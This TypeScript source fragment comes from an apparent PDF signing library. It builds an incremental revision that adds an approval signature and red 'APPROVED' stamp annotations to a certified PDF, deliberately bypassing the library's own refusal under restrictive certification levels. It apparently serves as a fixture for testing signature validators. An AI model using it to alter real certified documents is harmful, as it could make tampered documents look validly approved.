export async function isCertified(pdf: Uint8Array): Promise<boolean> {
  const { doc } = await load(pdf);
  return doc.catalog.lookupMaybe(PDFName.of('Perms'), PDFDict)?.has(PDFName.of('DocMDP')) ?? false;
}

/** Bytes reserved in an approval signature's /Contents: a B-B CMS with the operator's chain is ~4 KB. */
const APPROVAL_RESERVE = 12 * 1024;
const RANGE_PLACEHOLDER = '[0 /********** /********** /**********]';

/**
 * An approval signature (SubFilter ETSI.CAdES.detached, made with `key` and our CMS builder) whose revision also adds
 * `stamps` /Stamp annotations (red "APPROVED" boxes) on page 1, written here rather than by signPdf, which refuses
 * it on a P=1 or P=2 certified document: a viewer shows the stamps and one more valid signature; honest verdict on
 * a certified document: the new signature is allowed under P=2 and P=3, its stamps only under P=3, and nothing
 * under P=1 (certification violated).
 */
export async function addApprovalSignatureWithStamps(
  certified: Uint8Array,
  key: SigningKey,
  options: { stamps?: number; signerName?: string; claimedTime?: Date } = {},
): Promise<Uint8Array> {
  const loaded = await load(certified);
  const page = pageOf(loaded.doc, 1);
  const fontRef = loaded.next();
  const sigRef = loaded.next();
  const widgetRef = PDFRef.of(loaded.next());
  const objects: RawObject[] = [
    { num: fontRef, body: HELVETICA },
    {
      num: sigRef,
      body:
        `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange ${RANGE_PLACEHOLDER} ` +
        `/Contents <${'0'.repeat(APPROVAL_RESERVE * 2)}> ` +
        `/M ${PDFString.fromDate(options.claimedTime ?? new Date()).toString()} ` +
        `/Name ${PDFHexString.fromText(options.signerName ?? 'Approver').toString()} >>`,
    },
    {
      num: widgetRef.objectNumber,
      body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval${sigRef}) /Rect [0 0 0 0] /F 132 /V ${sigRef} 0 R /P ${page.ref.toString()} >>`,
    },
  ];
  const stamps: PDFRef[] = [];
  for (let i = 0; i < (options.stamps ?? 1); i++) {
    const appearance = loaded.next();
    const stamp = PDFRef.of(loaded.next());
    const [x, y] = [400 - i * 110, 60];
    objects.push({
      num: appearance,
      body: streamBody(
        `/Type /XObject /Subtype /Form /BBox [0 0 100 40] /Resources << /Font << /Helv ${fontRef} 0 R >> >>`,
        'q 1 0 0 RG 3 w 2 2 96 36 re S Q BT 1 0 0 rg /Helv 14 Tf 12 15 Td (APPROVED) Tj ET',
      ),
    });
    objects.push({
      num: stamp.objectNumber,
      body:
        `<< /Type /Annot /Subtype /Stamp /Name /Approved /Rect [${x} ${y} ${x + 100} ${y + 40}] /F 4 ` +
        `/P ${page.ref.toString()} /AP << /N ${appearance} 0 R >> >>`,
    });
    stamps.push(stamp);
  }
  const unsigned = appendRevision(
    certified,
    loaded,
    merge(objects, withFields(loaded, [widgetRef]), withAnnotation(loaded, page, [widgetRef, ...stamps])),
  );
  // Fill the ByteRange and the CMS the way pades.ts does: the gap is this revision's (unique) /Contents hole.
  const bytes = Buffer.from(unsigned);
  const hole = latin1(`<${'0'.repeat(APPROVAL_RESERVE * 2)}>`);
  const holeAt = bytes.indexOf(hole, certified.length);
  const rangeAt = bytes.indexOf(latin1(RANGE_PLACEHOLDER), certified.length);
  const afterHole = holeAt + hole.length;
  const byteRange = [0, holeAt, afterHole, bytes.length - afterHole];
  bytes.write(`[${byteRange.join(' ')}]`.padEnd(RANGE_PLACEHOLDER.length, ' '), rangeAt, 'latin1');
  const digest = createHash('sha256').update(bytes.subarray(0, holeAt)).update(bytes.subarray(afterHole)).digest();
  const { der } = await buildSignedData({ key, contentType: '1.2.840.113549.1.7.1', digest: new Uint8Array(digest) });
  if (der.length > APPROVAL_RESERVE) throw new Error('the CMS does not fit the approval reserve');
  bytes.write(Buffer.from(der).toString('hex').toUpperCase(), holeAt + 1, 'latin1');
  return new Uint8Array(bytes);
}
